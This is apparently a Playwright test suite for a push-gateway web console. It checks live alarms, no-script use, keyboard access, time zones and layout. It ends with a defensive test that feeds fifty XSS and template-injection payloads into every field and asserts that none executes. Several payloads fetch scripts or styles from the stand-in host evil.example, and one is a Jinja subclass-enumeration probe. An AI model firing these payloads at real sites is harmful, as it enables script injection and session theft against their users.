"""The console in a browser: by mouse, on a phone, by keyboard, without scripts, and under attack."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from urllib.parse import parse_qs, quote, urlsplit

import pytest

from fastpush.gateway.outbox import Entry
from tests.gateway.browsing import browse, needs_chromium
from tests.gateway.console_house import PAGES, TOPIC, open_house

pytestmark = [needs_chromium, pytest.mark.slow]

LONG = "x" * 300

# From the collections that scanners try: tags, attributes, schemes, templates, encodings, and what breaks
# out of the places where a page puts text.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert`1`>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1)",
    "javascript:alert(1)",
    "{{ 7*7 }}",
    "{% for x in [].__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>\u2066",
    "<script\u0000>alert(1)</script>",
]


@pytest.fixture
async def house(tmp_path):
    async with open_house(tmp_path, days=9) as house:
        yield house


async def test_an_alarm_arrives_live_and_is_taken(house):
    def story(browser):
        browser.log_in()
        page = browser.page
        page.get_by_role("link", name="Alarms", exact=True).click()
        page.get_by_text("No alarm is open.").wait_for()
        browser.do(house.critical)
        row = page.get_by_role("link", name="sw-core-01")
        row.wait_for()
        assert "Critical" in page.locator("tbody").inner_text()
        row.click()
        page.get_by_text("first.new").wait_for()
        page.get_by_role("link", name="pushed").click()
        page.locator("#batch .mark", has_text="accepted").wait_for()
        page.go_back()
        page.get_by_role("button", name="Acknowledge").click()
        page.get_by_text("Acknowledged. The phones").wait_for()
        assert page.get_by_role("button", name="Acknowledge").count() == 0
        browser.do(house.critical, stringseverity="Clear", message="all is well")
        page.get_by_text("clear.open").wait_for()

    await browse(house, story)
    assert (await house.gateway.alarms.list())[0].row.acknowledged_by == "alice"


async def test_a_page_that_hears_nothing_says_so_until_it_does(house):
    def story(browser):
        browser.log_in()
        page = browser.page
        told = page.get_by_text("Not live since")
        assert told.count() == 0
        page.route("**/live", lambda route: route.fulfill(status=503))
        page.reload()
        told.wait_for()
        browser.do(house.critical)  # each new try fetches the page, so that it is not that old
        page.get_by_role("link", name="sw-core-01").wait_for()
        page.unroute("**/live")
        told.wait_for(state="detached")

    await browse(house, story)


async def test_the_same_without_scripts(house):
    def story(browser):
        browser.log_in()
        page = browser.page
        browser.do(house.critical)
        page.get_by_role("link", name="Alarms", exact=True).click()
        page.get_by_role("link", name="sw-core-01").click()
        assert "UTC" in page.locator("time").first.inner_text(), "nobody turned it into the reader's zone"
        page.get_by_role("button", name="Acknowledge").click()
        page.get_by_text("Acknowledged. The phones").wait_for()
        page.get_by_role("link", name="Webhooks").click()
        page.get_by_text("first.new").wait_for()
        page.get_by_role("link", name="Preview").click()
        page.get_by_role("button", name="Preview").click()
        page.get_by_text("What it becomes").wait_for()
        page.get_by_role("link", name="Devices").click()
        page.locator("tbody a").first.click()
        page.get_by_role("button", name="Send a test push").click()
        page.get_by_text("The test push is on its way.").wait_for()
        browser.do(house.settled)
        page.reload()
        page.locator(".timeline .mark", has_text="accepted").wait_for()
        page.get_by_role("button", name="Log out").click()
        page.get_by_label("Key of scope").wait_for()
        browser.go("/alarms")
        assert "/login" in page.url

    await browse(house, story, java_script_enabled=False)


async def test_a_dead_letter_is_found_and_sent_again(house):
    async def fail():
        await house.gateway.outbox.pause("opm")
        await house.gateway.outbox.accept("opm", [Entry(house.tokens[0], b'{"aps":{"alert":"lost letter"}}')])
        await house.gateway.outbox.purge("opm")
        await house.gateway.outbox.resume("opm")
        await house.indexed()

    def story(browser):
        browser.do(fail)
        browser.log_in()
        page = browser.page
        page.get_by_role("link", name="Notifications").click()
        page.get_by_label("Device token ends in").fill(house.tokens[0][-6:])
        page.get_by_label("Outcome").select_option("failed")
        page.get_by_role("button", name="Find").click()
        page.locator("tbody a").first.click()
        assert page.locator(".phone.screen .text").inner_text() == "lost letter"
        page.get_by_role("link", name="Dead letters").click()
        page.get_by_role("button", name="Send again").click()
        page.get_by_text("1 accepted once more.").wait_for()
        page.get_by_role("link", name="done").first.click()
        page.locator(".timeline .mark", has_text="accepted").wait_for()

    for scripts in (True, False):
        await browse(house, story, java_script_enabled=scripts)


async def test_a_new_certificate_takes_the_banner_away(house):
    ends = datetime.now(UTC) + timedelta(days=365)
    certificate = house.simulator.authority.issue_provider_certificate(TOPIC, not_after=ends)
    new = {"name": "new.p12", "mimeType": "application/x-pkcs12", "buffer": certificate.to_pkcs12("secret")}
    wrong = {**new, "buffer": b"this is no certificate"}

    def story(browser):
        browser.log_in()
        page = browser.page
        page.get_by_text("expires in 9 days").first.wait_for()
        page.get_by_role("link", name="Credentials", exact=True).last.click()
        page.get_by_text("9 days left").wait_for()
        page.get_by_label("certificate (.p12").set_input_files(wrong)
        page.get_by_role("button", name="Check and take").click()
        page.get_by_text("The old one stays in use").wait_for()
        page.get_by_role("link", name="Back to the page").click()
        page.get_by_label("certificate (.p12").set_input_files(new)
        page.get_by_label("Password of the .p12").fill("secret")
        page.get_by_role("button", name="Check and take").click()
        page.get_by_text("In use and proved").wait_for()
        page.get_by_text("364 days left").wait_for()
        page.locator("#notices .notice").wait_for(state="detached")

    await browse(house, story)
    found = [(record.name, record.action) for record in await house.gateway.keys.log.read(0, 100)]
    assert ("alice", "credential.refused") in found
    assert ("alice", "credential.replaced") in found


async def test_times_are_the_readers_and_exact_on_hover(house):
    def story(browser):
        browser.do(house.critical)
        browser.log_in()
        browser.go("/alarms")
        time = browser.page.locator("td time").first
        assert "UTC" not in time.inner_text()
        assert time.get_attribute("title").endswith(" UTC")
        hour = int(time.get_attribute("datetime")[11:13])
        shown = time.evaluate("time => new Date(time.dateTime).getHours()")
        assert shown == (hour + 9) % 24

    await browse(house, story, timezone_id="Asia/Tokyo")


@pytest.mark.parametrize(
    ("scripts", "words", "typed"),
    [(True, "your time", "2026-06-01T08:30"), (False, "UTC", "2026-05-31T23:30")],
)
async def test_a_search_takes_times_as_the_reader_has_them(house, scripts, words, typed):
    def story(browser):
        browser.log_in()
        browser.go("/notifications")
        page = browser.page
        page.get_by_label(f"Accepted after, {words}").fill(typed)
        page.get_by_role("button", name="Find").click()
        page.wait_for_url("**/notifications?*")
        query = parse_qs(urlsplit(page.url).query)
        assert query.keys() == {"after"}, "the other is empty"
        assert query["after"][0].startswith("2026-05-31T23:30"), "the address is in UTC"
        assert page.get_by_label(f"Accepted after, {words}").input_value().startswith(typed)
        page.get_by_label(f"and before, {words}").fill("2026-06-02T00:00")
        page.get_by_role("button", name="Find").click()
        page.wait_for_url("**before=*")
        query = parse_qs(urlsplit(page.url).query)
        assert query["after"][0].startswith("2026-05-31T23:30"), "not moved a second time"
        assert query["before"][0].startswith("2026-06-01T15:00" if scripts else "2026-06-02T00:00")

    await browse(house, story, timezone_id="Asia/Tokyo", java_script_enabled=scripts)


async def test_it_is_used_by_keyboard_alone(house):
    def story(browser):
        page = browser.page
        browser.go("/login")
        page.wait_for_function("document.activeElement.id === 'key'")
        page.keyboard.type(house.keys["alice"])
        page.keyboard.press("Enter")
        page.get_by_role("heading", name="Overview").wait_for(state="attached")
        page.keyboard.press("Tab")
        assert page.evaluate("document.activeElement.textContent") == "Skip to the content"
        page.keyboard.press("Enter")
        page.keyboard.press("Tab")
        assert page.evaluate("document.querySelector('main').contains(document.activeElement)")
        ring = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
        assert ring == "solid"

    await browse(house, story)


@pytest.mark.parametrize("width", [360, 1280, 2560])
async def test_nothing_is_wider_than_the_screen(house, width):
    def story(browser):
        for path in PAGES:
            browser.go(path)
            wide = browser.page.evaluate("document.documentElement.scrollWidth")
            assert wide <= width, f"{path} is {wide} wide"

    def all_of_it(browser):
        browser.log_in()
        story(browser)
        recorded = browser.do(house.critical, LONG, LONG, category=LONG, entity=LONG)
        browser.do(house.settled)
        story(browser)
        browser.go(f"/alarms/{recorded['id']}")
        assert browser.page.evaluate("document.documentElement.scrollWidth") <= width

    await browse(house, all_of_it, viewport={"width": width, "height": 800})


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_axe_finds_nothing(house, scheme):
    found = []

    def story(browser):
        browser.go("/login")
        found.extend(("/login", one) for one in browser.violations())
        browser.log_in()
        for _ in range(2):
            for path in pages:
                browser.go(path)
                found.extend((path, one) for one in browser.violations())
            recorded = browser.do(house.critical)
            browser.do(house.critical, "db-07", stringseverity="Attention")
            browser.do(house.post, alarmid="9", displayName="x", stringseverity="Clear", message="ok")
            browser.do(house.settled)
            browser.do(house.critical, stringseverity="Trouble", message="One poll was answered")
            browser.do(house.settled)
            told = browser.do(house.gateway.alarms.get, recorded["id"]).verdicts[0][2]
            device = house.tokens[0]
            pages.extend([f"/alarms/{recorded['id']}", "/alarms/none", "/nowhere"])
            pages.extend(
                [f"/batches/{told.push}?device={device[-6:]}", f"/notifications?device={device[-6:]}"]
            )
            pages.append(f"/batches?app=opm&device={house.handle(device)}")
            pages.append(f"/devices/opm/{house.handle(house.tokens[0])}")

    pages = list(PAGES)
    await browse(house, story, color_scheme=scheme, bypass_csp=True)
    assert found == []


async def test_fifty_attacks_through_every_field_do_nothing(house):
    fields = (
        "displayName",
        "entity",
        "message",
        "category",
        "monitor",
        "alarmid",
        "parent",
        "eventType",
        "src",
    )
    assert len(ATTACKS) == 50
    asked = []

    def story(browser):
        page = browser.page
        page.on("request", lambda request: asked.append(request.url))
        names = []
        for number, attack in enumerate(ATTACKS):
            alarm = dict.fromkeys(fields, f"{number} {attack}") | {"stringseverity": "Critical"}
            names.append(browser.do(house.post, **alarm)["id"])
        browser.do(house.settled)
        browser.log_in()
        for path in (*PAGES, *(f"/alarms/{name}" for name in names if name)):
            browser.go(path)
            assert page.evaluate("window.alerted === undefined")
            assert (
                page.locator(
                    "main script, main iframe, main img, main object, main embed, main style"
                ).count()
                == 0
            )
            assert page.locator("[onerror], [onload], [onclick], [onfocus], [onmouseover]").count() == 0
        for attack in ATTACKS:
            for path in (
                "/alarms?device=",
                "/devices?tag=",
                "/webhooks?source=",
                "/notifications?id=",
                "/?said=",
            ):
                browser.go(path + quote(attack))
                assert page.locator("main script, main iframe, main img, main style").count() == 0

    await browse(house, story)
    assert all(url.startswith(house.console) for url in asked)
